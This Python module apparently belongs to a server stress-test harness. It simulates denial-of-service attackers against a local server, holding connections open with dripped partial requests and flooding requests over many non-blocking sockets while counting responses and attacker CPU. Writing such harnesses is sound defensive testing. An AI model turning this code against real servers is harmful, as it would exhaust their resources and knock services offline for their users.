"""How an attacker uses connections: it holds them open, or sends requests as fast as they are answered.

One thread with selectors and bytes prepared in advance, so that the attacker itself uses little CPU.
"""

import selectors
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

HOST = "127.0.0.1"
JSON = "application/json"
ARCHIVE = "application/octet-stream"
REFUSED_PAUSE_SECONDS = 0.5
"""How long to wait after a refusal: what is measured is not a flood of refused requests."""
_REOPENINGS_AT_ONCE = 32
_LAST_CHUNK = b"0\r\n\r\n"


def request(method: str, path: str, body: bytes = b"", *, media_type: str = JSON, extra: str = "") -> bytes:
    """Return the bytes of a complete request."""
    return head(method, path, media_type=media_type, length=len(body), extra=extra) + body


def head(
    method: str, path: str, *, media_type: str = JSON, length: int | None = None, extra: str = ""
) -> bytes:
    """Return a request head; without a `length`, the body is chunked."""
    framing = "Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}"
    typed = "" if method == "GET" else f"Content-Type: {media_type}\r\n{framing}\r\n"
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{typed}{extra}\r\n".encode()


class Target:
    """The server under attack, and what the attacker has done to it."""

    def __init__(self, port: int, seconds: float, folder: Path) -> None:
        self.port = port
        self.seconds = seconds
        self.folder = folder
        """Files that were prepared for the attack."""
        self.counted: Counter[str] = Counter()
        """Statuses of responses, connections and bytes sent."""
        self.ends = time.monotonic() + 60  # until it is under way
        self._cpu = 0.0

    def under_way(self) -> None:
        """Report that the attack has started. It ends `seconds` later."""
        self.ends = time.monotonic() + self.seconds
        self._cpu = time.process_time()
        print("under way", flush=True)

    @property
    def cpu_share(self) -> float:
        """The share of a core that the attacker has used since it started."""
        return (time.process_time() - self._cpu) / (self.seconds or 1)

    @property
    def over(self) -> bool:
        """Whether the attack has lasted long enough."""
        return time.monotonic() >= self.ends

    def connect(self, *, small: bool = False) -> socket.socket:
        """Open a connection, with a `small` receive buffer if its responses are not read."""
        made = socket.socket()
        if small:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.settimeout(5)
        try:
            made.connect((HOST, self.port))
        except BaseException:
            made.close()
            raise
        self.counted["connections"] += 1
        return made


def hold(
    target: Target,
    count: int,
    opening: bytes,
    *,
    drip: Callable[[], bytes] = lambda: b"",
    every_seconds: float = 1.0,
    reads: bool = True,
) -> None:
    """Keep `count` connections open: send `opening` on each, then `drip` now and then.

    One that the server closes or answers is opened again. Without `reads`, responses are left unread.
    """
    held: list[socket.socket] = []
    try:
        _reopen(target, held, count, opening, reads=reads, at_once=count)
        target.under_way()
        due, reopens = time.monotonic() + every_seconds, 0.0
        while not target.over:
            if reads:
                _drop_answered(target, held)
            if time.monotonic() >= reopens:
                reopens = time.monotonic() + REFUSED_PAUSE_SECONDS
                _reopen(target, held, count, opening, reads=reads, at_once=_REOPENINGS_AT_ONCE)
            if time.monotonic() >= due:
                due = time.monotonic() + every_seconds
                _send_each(target, held, drip)
            time.sleep(0.05)
    finally:
        for each in held:
            each.close()


def _reopen(
    target: Target, held: list[socket.socket], count: int, opening: bytes, *, reads: bool, at_once: int
) -> None:
    for _ in range(min(count - len(held), at_once)):
        if target.over:
            return
        try:
            made = target.connect(small=not reads)
        except OSError as error:
            target.counted[type(error).__name__] += 1
            return
        try:
            made.sendall(opening)
        except OSError as error:
            target.counted[type(error).__name__] += 1
            made.close()
            continue
        target.counted["bytes"] += len(opening)
        made.setblocking(False)
        held.append(made)


def _drop_answered(target: Target, held: list[socket.socket]) -> None:
    for each in list(held):
        try:
            answer = each.recv(4096)
        except BlockingIOError:
            continue
        except OSError:
            answer = b""
        target.counted[_status(answer) if answer else "closed"] += 1
        each.close()
        held.remove(each)


def _send_each(target: Target, held: list[socket.socket], drip: Callable[[], bytes]) -> None:
    if not (piece := drip()):
        return
    for each in list(held):
        try:
            target.counted["bytes"] += each.send(piece)
        except BlockingIOError:
            continue
        except OSError:
            target.counted["closed"] += 1
            each.close()
            held.remove(each)


def _status(answer: bytes) -> str:
    return answer[9:12].decode("latin-1")


def repeat(target: Target, count: int, requests: Iterator[bytes]) -> None:
    """Send requests on `count` connections, each as soon as the one before it is answered."""
    with selectors.DefaultSelector() as selector:
        callers = [_Caller(target, requests) for _ in range(count)]
        for caller in callers:
            caller.open(selector)
        target.under_way()
        try:
            while not target.over:
                for key, events in selector.select(0.05):
                    key.data.go_on(selector, events)
                now = time.monotonic()
                for caller in callers:
                    caller.resume(selector, now)
        finally:
            for caller in callers:
                caller.close(selector)


class _Caller:
    """One connection: it sends a request, reads the response to its end, and sends the next."""

    def __init__(self, target: Target, requests: Iterator[bytes]) -> None:
        self._target = target
        self._requests = requests
        self._socket: socket.socket | None = None
        self._unsent = memoryview(b"")
        self._head = b""
        self._rest: int | None = None
        """Bytes of the body still to come; None while the head is incomplete."""
        self._chunked, self._tail = False, b""
        self._paused_until = 0.0
        self._buffer = bytearray(2**18)

    def open(self, selector: selectors.BaseSelector) -> None:
        """Connect and send the first request."""
        try:
            self._socket = self._target.connect()
        except OSError as error:
            self._target.counted[type(error).__name__] += 1
            self._paused_until = time.monotonic() + 0.5
            return
        self._socket.setblocking(False)
        selector.register(self._socket, selectors.EVENT_WRITE, self)
        self._next(selector)

    def close(self, selector: selectors.BaseSelector) -> None:
        """Close the connection."""
        if self._socket is not None:
            selector.unregister(self._socket)
            self._socket.close()
            self._socket = None

    def go_on(self, selector: selectors.BaseSelector, events: int) -> None:
        """Send or read what is possible now."""
        assert self._socket is not None
        try:
            if events & selectors.EVENT_WRITE and self._unsent:
                sent = self._socket.send(self._unsent[: 2**18])
                self._target.counted["bytes"] += sent
                self._unsent = self._unsent[sent:]
            if not self._unsent:
                selector.modify(self._socket, selectors.EVENT_READ, self)
            if events & selectors.EVENT_READ:
                self._read(selector)
        except BlockingIOError:
            pass
        except OSError as error:
            self._target.counted[type(error).__name__] += 1
            self._again(selector)

    def resume(self, selector: selectors.BaseSelector, now: float) -> None:
        """Go on after a pause."""
        if self._paused_until and now >= self._paused_until:
            self._paused_until = 0.0
            if self._socket is None:
                self.open(selector)
            else:
                self._next(selector)

    def _next(self, selector: selectors.BaseSelector) -> None:
        assert self._socket is not None
        self._unsent, self._head, self._rest = memoryview(next(self._requests)), b"", None
        # Responses are read while a request is sent: the server may refuse it early.
        selector.modify(self._socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def _again(self, selector: selectors.BaseSelector) -> None:
        self.close(selector)
        self._paused_until = time.monotonic() + REFUSED_PAUSE_SECONDS

    def _read(self, selector: selectors.BaseSelector) -> None:
        assert self._socket is not None
        size = self._socket.recv_into(self._buffer)
        if not size:
            self._target.counted["closed"] += 1
            self._again(selector)
            return
        if self._rest is None:
            self._head += self._buffer[:size]
            start, end, body = self._head.partition(b"\r\n\r\n")
            if not end:
                return
            self._chunked = b"\r\ntransfer-encoding" in start.lower()
            self._rest = _length(start) - len(body)
            self._tail = bytes(body[-5:])
        else:
            self._rest -= size
            self._tail = (self._tail + self._buffer[max(0, size - 5) : size])[-5:]
        if self._tail == _LAST_CHUNK if self._chunked else self._rest <= 0:
            self._answered(selector)

    def _answered(self, selector: selectors.BaseSelector) -> None:
        status = _status(self._head)
        self._target.counted[status] += 1
        if self._unsent:  # refused before it was sent
            self._again(selector)
        elif status in {"429", "503"}:
            self._paused_until = time.monotonic() + REFUSED_PAUSE_SECONDS
        else:
            self._next(selector)


def _length(start: bytes) -> int:
    """Return the Content-Length of a response head, or 0."""
    for line in start.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            with suppress(ValueError):
                return int(line.partition(b":")[2])
    return 0
